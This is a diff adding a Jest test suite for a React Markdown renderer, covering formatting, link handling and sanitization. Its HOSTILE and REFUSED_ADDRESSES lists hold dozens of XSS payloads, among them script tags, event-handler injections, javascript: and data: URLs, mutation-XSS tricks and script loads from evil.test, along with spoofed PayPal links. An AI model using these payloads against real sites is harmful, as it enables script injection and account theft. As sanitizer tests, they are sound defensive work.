@@ -1,0 +1,364 @@
+import { afterEach, describe, expect, test } from '@jest/globals'
+import { act, cleanup, render, screen } from '@testing-library/react'
+import fc from 'fast-check'
+import { MarkedText } from './MarkedText.tsx'
+import { createRichText, RichText } from './RichText.tsx'
+
+afterEach(cleanup)
+
+/** The elements a text becomes, without what they look like. */
+function draw(text: string): string {
+  const { container, unmount } = render(<MarkedText text={text} />)
+  const clone = document.createElement('div')
+  for (const drawn of container.querySelectorAll(':scope > div > *, :scope > span')) clone.append(drawn.cloneNode(true))
+  for (const element of clone.querySelectorAll('*')) {
+    for (const name of ['class', 'target', 'rel', 'dir', 'tabindex']) element.removeAttribute(name)
+  }
+  unmount()
+  return clone.innerHTML.replaceAll('<bdi>', '').replaceAll('</bdi>', '')
+}
+
+const words = (text: string): string => {
+  const { container, unmount } = render(<MarkedText text={text} />)
+  const { textContent } = container
+  unmount()
+  return textContent
+}
+
+describe('a text is drawn', () => {
+  test.each([
+    ['two paragraphs', 'a\n\n\n\nb', '<p>a</p><p>b</p>'],
+    ['a line break as typed', 'a\nb', '<p>a<br>b</p>'],
+    ['spaces as typed', 'a   b', '<p>a   b</p>'],
+    ['bold and italics', '**a** _b_ ***c***', '<p><strong>a</strong> <em>b</em> <em><strong>c</strong></em></p>'],
+    ['struck out', '~~a~~', '<p><del>a</del></p>'],
+    ['code', '`a  <b>`', '<p><code>a  &lt;b&gt;</code></p>'],
+    ['a fence', '```js\na\n\n  b\n```', '<pre><code>a\n\n  b</code></pre>'],
+    ['an open fence', '```\na', '<pre><code>a</code></pre>'],
+    ['an empty fence', '```', '<p>```</p>'],
+    ['indented code', '    a\n      b', '<pre><code>a\n  b</code></pre>'],
+    ['a quote', '> a\n> b', '<blockquote><p>a<br>b</p></blockquote>'],
+    ['an empty quote', '>', '<p>&gt;</p>'],
+    ['bullets', '- a\n- b', '<ul><li>a</li><li>b</li></ul>'],
+    ['bullets in bullets', '- a\n  - b', '<ul><li>a<ul><li>b</li></ul></li></ul>'],
+    ['bullets apart', '- a\n\n- b', '<ul><li><p>a</p></li><li><p>b</p></li></ul>'],
+    ['numbers', '3. a\n4. b', '<ol start="3"><li>a</li><li>b</li></ol>'],
+    ['a year', '1984. a', '<ol start="1984"><li>a</li></ol>'],
+    ['tasks as text', '- [x] a\n- [ ] b', '<ul><li>[x] a</li><li>[ ] b</li></ul>'],
+    ['tasks apart', '- [x] a\n\n- [ ] b', '<ul><li><p>[x] a</p></li><li><p>[ ] b</p></li></ul>'],
+    ['a heading', '### a *b*', '<p><strong>a <em>b</em></strong></p>'],
+    ['a heading without words', '#', '<p>#</p>'],
+    ['a rule', 'a\n\n---\n\nb', '<p>a</p><hr><p>b</p>'],
+    ['a signature', 'Thanks\n--\nAnn', '<p>Thanks<br>--<br>Ann</p>'],
+    ['an escape', '\\*a\\*', '<p>*a*</p>'],
+    ['a table as typed', '|a|b|\n|-|-|\n|c|*d*|', '<p>|a|b|\n|-|-|\n|c|*d*|</p>'],
+    ['a definition as typed', '[a]: b', '<p>[a]: b</p>'],
+    ['raw HTML as typed', '<div class="a">\n*b*\n</div>', '<p>&lt;div class="a"&gt;\n*b*\n&lt;/div&gt;</p>'],
+    ['raw HTML in a line', 'a <b>*c*</b>', '<p>a &lt;b&gt;<em>c</em>&lt;/b&gt;</p>'],
+    ['a comment', 'a <!-- *b* -->', '<p>a &lt;!-- *b* --&gt;</p>'],
+  ])('with %s', (_, text, expected) => {
+    expect(draw(text)).toBe(expected)
+  })
+})
+
+const AS_TYPED = `a < b && c > d "q" 'x' &amp; &lt;b&gt; &#65;&#x42; &#38;lt; &copy;`
+
+test.each([
+  ['in a line', AS_TYPED, AS_TYPED],
+  ['in bold', `**${AS_TYPED}**`, AS_TYPED],
+  ['in code', `\`${AS_TYPED}\``, AS_TYPED],
+  ['in a block of code', `\`\`\`\n${AS_TYPED}\n\`\`\``, AS_TYPED],
+  ['in a list', `- ${AS_TYPED}`, AS_TYPED],
+  ['in a heading', `# ${AS_TYPED}`, AS_TYPED],
+  ['in a link', `[${AS_TYPED}](https://a.test)`, AS_TYPED],
+  ['after an open tag', `<pre>x ${AS_TYPED}`, `<pre>x ${AS_TYPED}`],
+])('special characters are read as they were typed %s', (_, text, expected) => {
+  expect(words(text)).toBe(expected)
+})
+
+describe('a link is drawn', () => {
+  test.each([
+    ['with words', '[a *b*](https://c.test/d)', '<a href="https://c.test/d">a <em>b</em></a>'],
+    ['with a title', '[a](https://c.test "t")', '<a href="https://c.test/">a</a>'],
+    ['without words', '[](https://c.test)', '<a href="https://c.test/">https://c.test</a>'],
+    ['with words nobody sees', '[\u200b](https://c.test)', '<a href="https://c.test/">https://c.test</a>'],
+    [
+      'from an address',
+      'https://c.test/d?e=1&f=2.',
+      '<a href="https://c.test/d?e=1&amp;f=2">https://c.test/d?e=1&amp;f=2</a>.',
+    ],
+    ['from an address in brackets', '<https://c.test>', '<a href="https://c.test/">https://c.test</a>'],
+    ['from a bare address', 'www.c.test', '<a href="https://www.c.test/">www.c.test</a>'],
+    ['to a bare address', '[a](www.c.test)', '<a href="https://www.c.test/">a</a>'],
+    ['from an e-mail address', 'a.b@c.test', '<a href="mailto:a.b@c.test">a.b@c.test</a>'],
+    ['to a telephone', '[call](tel:+3212345)', '<a href="tel:+3212345">call</a>'],
+    ['with its own host', '[c.test](https://www.c.test/d)', '<a href="https://www.c.test/d">c.test</a>'],
+    ['with its parent’s host', '[c.test](https://d.c.test)', '<a href="https://d.c.test/">c.test</a>'],
+    ['with a host in its path', 'https://c.test/d.test', '<a href="https://c.test/d.test">https://c.test/d.test</a>'],
+    ['from an image', '![a *b*](https://c.test/d.png)', '<a href="https://c.test/d.png">a b</a>'],
+    [
+      'from an image without words',
+      '![](https://c.test/d.png)',
+      '<a href="https://c.test/d.png">https://c.test/d.png</a>',
+    ],
+    ['around an image', '[![a](https://b.test/c.png)](https://d.test)', '<a href="https://d.test/">a</a>'],
+    ['from an image of a link', '![[a](https://b.test)](https://c.test)', '<a href="https://c.test/">a</a>'],
+  ])('%s', (_, text, expected) => {
+    expect(draw(text)).toBe(`<p>${expected}</p>`)
+  })
+
+  test('in a new tab that learns nothing', () => {
+    render(<MarkedText text="[a](https://b.test)" />)
+    expect(screen.getByRole('link')).toHaveAttribute('target', '_blank')
+    expect(screen.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer nofollow')
+    expect(screen.getByRole('link').closest('bdi')).not.toBeNull()
+  })
+})
+
+describe('a link that claims another place shows the real one', () => {
+  test.each([
+    ['[paypal.com](https://evil.test)', 'paypal.com (evil.test)'],
+    ['[**paypal**.com](https://evil.test)', 'paypal.com (evil.test)'],
+    ['[https://www.paypal.com/login](https://evil.test/x)', 'https://www.paypal.com/login (evil.test)'],
+    ['[log in at paypal.com.](https://evil.test)', 'log in at paypal.com. (evil.test)'],
+    ['[(paypal.com)](https://evil.test)', '(paypal.com) (evil.test)'],
+    ['[evil.test](https://notevil.test)', 'evil.test (notevil.test)'],
+    ['[paypal.com](https://paypal.com.evil.test)', 'paypal.com (paypal.com.evil.test)'],
+    ['[PayPal.COM](https://evil.test)', 'PayPal.COM (evil.test)'],
+    ['[pay\u200bpal.com](https://evil.test)', 'pay\u200bpal.com (evil.test)'],
+    ['[ｐａｙｐａｌ.com](https://evil.test)', 'ｐａｙｐａｌ.com (evil.test)'],
+    ['[paypal。com](https://evil.test)', 'paypal。com (evil.test)'],
+    ['[\u202Emoc.lapyap](https://moc.lapyap)', '\u202Emoc.lapyap (moc.lapyap)'],
+    ['https://pаypal.com', 'https://pаypal.com (xn--pypal-4ve.com)'],
+    ['https://paypal.com@evil.test/', 'https://paypal.com@evil.test/ (evil.test)'],
+    ['[hello](https://paypal@evil.test/)', 'hello (evil.test)'],
+    ['[shop.test](https://shop.test\\@evil.test)', 'shop.test (evil.test)'],
+    ['[help@paypal.com](mailto:x@evil.test)', 'help@paypal.com (evil.test)'],
+    ['[help@paypal.com](mailto:x@evil.test,help@paypal.com)', 'help@paypal.com (x@evil.test,help@paypal.com)'],
+    ['[paypal.com](tel:+123)', 'paypal.com (+123)'],
+    ['![paypal.com](https://evil.test/x.png)', 'paypal.com (evil.test)'],
+  ])('%j', (text, expected) => {
+    expect(words(text)).toBe(expected)
+  })
+})
+
+const REFUSED_ADDRESSES = [
+  'javascript:alert(1)',
+  'JaVaScRiPt:alert(1)',
+  ' javascript:alert(1)',
+  '\u0001javascript:alert(1)',
+  'java\tscript:alert(1)',
+  'java\nscript:alert(1)',
+  'java&#115;cript:alert(1)',
+  'javascript&colon;alert(1)',
+  '&#106;avascript:alert(1)',
+  'java\\script:alert(1)',
+  '\\javascript:alert(1)',
+  'javascript://shop.test/%0aalert(1)',
+  'data:text/html,<b>',
+  'data:text/html;base64,PHN2Zz4=',
+  'DATA:image/svg+xml,x',
+  'vbscript:msgbox(1)',
+  'view-source:https://shop.test',
+  'blob:https://shop.test/1',
+  'file:///etc/passwd',
+  'ftp://shop.test',
+  'intent://shop.test',
+  'about:blank',
+  '//evil.test',
+  '\\\\evil.test',
+  '/\\evil.test',
+  'https:evil.test',
+  'https:/evil.test',
+  'https:\\\\evil.test',
+  'https://',
+  '/account',
+  'account.html',
+  '#top',
+  '?a=b',
+  '',
+]
+
+test.each(REFUSED_ADDRESSES)('a link to %j is text', (address) => {
+  for (const text of [`[a](${address})`, `[a](<${address}>)`, `![a](${address})`, `<${address}>`]) {
+    expect(draw(text)).not.toMatch(/<a|<img/)
+  }
+  expect(words('[a](javascript:b)')).toBe('[a](javascript:b)')
+})
+
+describe('limits', () => {
+  test('twenty quotes are drawn, twenty-one are text', () => {
+    expect(draw(`${'>'.repeat(20)} a`)).toMatch(/^(<blockquote>){20}<p>a/)
+    expect(draw(`${'>'.repeat(21)} *a*`)).toBe(`<span>${'&gt;'.repeat(21)} *a*</span>`)
+  })
+
+  test('20,000 characters are drawn, one more is text', () => {
+    expect(draw(`*a*${'b'.repeat(19_997)}`)).toContain('<em>')
+    expect(draw(`*a*${'b'.repeat(19_998)}`)).not.toContain('<em>')
+  })
+
+  const UNKIND = ['*', '_', '~', '`', '[', '![', '>', '> ', '- ', '1. ', '<', '<a ', '\\', '*a_', '_a*', '<*a>', '[a](b', '&#65;', 'a@', 'a.', '|', '#', '\n', ' ', 'a\n-\n', '**a *b ', '```\n'] // prettier-ignore
+  const SIZES = [3_000, 5_000, 20_000, 150_000]
+  test.each(UNKIND)('%j over and over is drawn at once', (part) => {
+    for (const size of SIZES) {
+      const text = part.repeat(size / part.length)
+      const start = performance.now()
+      words(text)
+      expect(performance.now() - start).toBeLessThan(2_000)
+    }
+  })
+})
+
+const ALLOWED_HREF = /^(?:https?:|mailto:|tel:)/
+const ALLOWED_ELEMENTS = 'div span p br strong em del code pre blockquote ul ol li hr a bdi'.split(' ')
+const ALLOWED_ATTRIBUTES = 'class href target rel dir tabindex start'.split(' ')
+
+/** What is wrong with a drawn text: an element, an attribute or an address it may not have. */
+function findFaults(text: string): readonly string[] {
+  const { container, unmount } = render(<MarkedText text={text} />)
+  const elements = [...container.querySelectorAll('*')]
+  const faults = elements.flatMap((element) => [
+    ...(ALLOWED_ELEMENTS.includes(element.localName) ? [] : [element.localName]),
+    ...element.getAttributeNames().filter((name) => !ALLOWED_ATTRIBUTES.includes(name)),
+    ...(ALLOWED_HREF.test(element.getAttribute('href') ?? 'https:') ? [] : [element.outerHTML]),
+    ...(element.matches('a a') ? ['a link in a link'] : []),
+  ])
+  unmount()
+  return faults
+}
+
+const HOSTILE = [
+  '<script>steal()</script>',
+  '<ScRiPt src=//evil.test/s.js></sCrIpT>',
+  '<script\n>steal()</script\n>',
+  '<<script>steal();//<</script>',
+  '<scr<script>ipt>steal()</scr</script>ipt>',
+  '<img src=x onerror=steal()>',
+  '<img/src=`x`/onerror=steal()>',
+  '<img src="x" onerror="&#115;teal()">',
+  '<img src=x:x onerror\u000b=steal()>',
+  '"><img src=x onerror=steal()>',
+  "'><img src=x onerror=steal()>",
+  '<svg onload=steal()>',
+  '<svg/onload=steal()//',
+  '<svg><script>steal()</script></svg>',
+  '<svg><animate onbegin=steal() attributeName=x dur=1s>',
+  '<svg><use href="data:image/svg+xml,<svg id=x></svg>#x">',
+  '<svg><a xlink:href="javascript:steal()"><text y=9>a</text></a>',
+  '<math><mtext></p><style><img src=x onerror=steal()></style>',
+  '<math><mi xlink:href="javascript:steal()">a</mi></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=steal()>',
+  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
+  '<iframe src="javascript:steal()"></iframe>',
+  '<iframe srcdoc="<script>steal()</script>">',
+  '<object data="javascript:steal()"></object>',
+  '<embed src="javascript:steal()">',
+  '<body onload=steal()>',
+  '<input autofocus onfocus=steal()>',
+  '<details open ontoggle=steal()>',
+  '<video><source onerror=steal()></video>',
+  '<audio src=x onerror=steal()>',
+  '<marquee onstart=steal()>',
+  '<p style="background:url(javascript:steal())">a</p>',
+  '<style>@import "//evil.test/s.css";</style>',
+  '<link rel=stylesheet href=//evil.test/s.css>',
+  '<meta http-equiv=refresh content="0;url=javascript:steal()">',
+  '<base href="javascript:/steal()//">',
+  '<template><script>steal()</script></template>',
+  '<a href="javascript:steal()">a</a>',
+  '<a href=" &#14; javascript:steal()">a</a>',
+  '<a href="jav&Tab;ascript:steal()">a</a>',
+  '<a onmouseover=steal()>a</a>',
+  '<form action="javascript:steal()"><button>a</button></form>',
+  '<button formaction=javascript:steal()>a</button>',
+  '<!--><img src=x onerror=steal()>-->',
+  '<![CDATA[<script>steal()</script>]]>',
+  '<?xml version="1.0"?><script>steal()</script>',
+  '<!DOCTYPE html><script>steal()</script>',
+  '[a](javascript:steal())',
+  '[a](javascript:window.onerror=steal;throw%201)',
+  '[a](<javascript:steal()>)',
+  '[a]( javascript:steal() "t")',
+  '[a](JAVASCRIPT:steal())',
+  '[a](data:text/html;base64,PHNjcmlwdD5zdGVhbCgpPC9zY3JpcHQ+)',
+  '[a](https://b.test" onmouseover="steal())',
+  '[a](https://b.test/"><script>steal()</script>)',
+  '[<img src=x onerror=steal()>](https://b.test)',
+  '[a](https://b.test "><img src=x onerror=steal()>")',
+  '![a](javascript:steal())',
+  '![a"onerror="steal()](https://b.test/c.png)',
+  '![a](https://b.test/c.png"onerror="steal\\(\\))',
+  '[![a](javascript:steal())](javascript:steal())',
+  '[a][b]\n\n[b]: javascript:steal()',
+  '<javascript:steal()>',
+  '<https://b.test/"onclick="steal()>',
+  'https://b.test/"onclick=steal()//',
+  'https://b.test/<script>steal()</script>',
+  '`<script>steal()</script>`',
+  '```"><script>steal()</script>\n</code></pre><script>steal()</script>\n```',
+  '|<script>steal()</script>|\n|-|\n|<img src=x onerror=steal()>|',
+  '# <img src=x onerror=steal()>',
+  '> <iframe src=//evil.test>',
+  '- <svg onload=steal()>',
+  '**<script>steal()</script>**',
+  '&lt;script&gt;steal()&lt;/script&gt;',
+  '&#60;script&#62;steal()&#60;/script&#62;',
+  '__proto__ [a](constructor:b) [toString](__proto__)',
+]
+
+test.each(HOSTILE)('%j harms nobody', (text) => {
+  expect(findFaults(text)).toEqual([])
+})
+
+const PARTS = [
+  ...'*_~`[]()!<>#-+.:|\\&"\'\n\t /@1aé'.split(''),
+  '**', '~~', '```\n', '\n\n', '> ', '- ', '1. ', '    ', '](', '![', '[a](', '<a ', '</a>', '<!--', '-->', '&#58;', '&amp;', '| a |\n|-|\n', '---\n',
+  'https://', 'www.', 'b.test', 'a@b.test', 'javascript:', 'data:', 'tel:1', 'mailto:', '\u202E', '\u200b', '\0', '\ud800', '😀',
+] // prettier-ignore
+
+describe('whatever is typed', () => {
+  const holds = (text: string) => expect(findFaults(text)).toEqual([])
+
+  test('any characters are drawn and harm nobody', () => {
+    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), holds), { numRuns: 300 })
+  })
+
+  test('any marks are drawn and harm nobody', () => {
+    const marks = fc.array(fc.constantFrom(...PARTS), { maxLength: 40 }).map((parts) => parts.join(''))
+    fc.assert(fc.property(marks, holds), { numRuns: 1_500 })
+  })
+
+  test('every letter and digit is shown', () => {
+    const letter = fc.constantFrom(...'abcxyzABCXYZ0189 \n'.split(''))
+    const plain = fc.array(letter, { maxLength: 80 }).map((letters) => letters.join(''))
+    fc.assert(
+      fc.property(plain, (text) => {
+        expect(words(text).replace(/\s/g, '')).toBe(text.replace(/\s/g, ''))
+      }),
+    )
+  })
+})
+
+describe('a message', () => {
+  test('without markup is shown as it is, at once', () => {
+    const { container } = render(<RichText text={'Hi,  there\n\nAnn'} />)
+    expect(container.innerHTML).toBe('<span class="plain">Hi,  there\n\nAnn</span>')
+  })
+
+  test('of a few emoji is shown large', () => {
+    render(<RichText text="👍🏽🎉" />)
+    expect(screen.getByText('👍🏽🎉')).toHaveClass('emoji')
+  })
+
+  test('with markup can be read before the renderer is there', async () => {
+    const { container } = render(<RichText text="**Hi**" />)
+    expect(container).toHaveTextContent('**Hi**')
+    expect((await screen.findByText('Hi')).localName).toBe('strong')
+  })
+
+  test('can be read if the renderer does not come', async () => {
+    const Unlucky = createRichText(() => Promise.reject(new Error('offline')))
+    const { container } = await act(async () => render(<Unlucky text="**Hi**" />))
+    expect(container.innerHTML).toBe('<span class="plain">**Hi**</span>')
+  })
+})
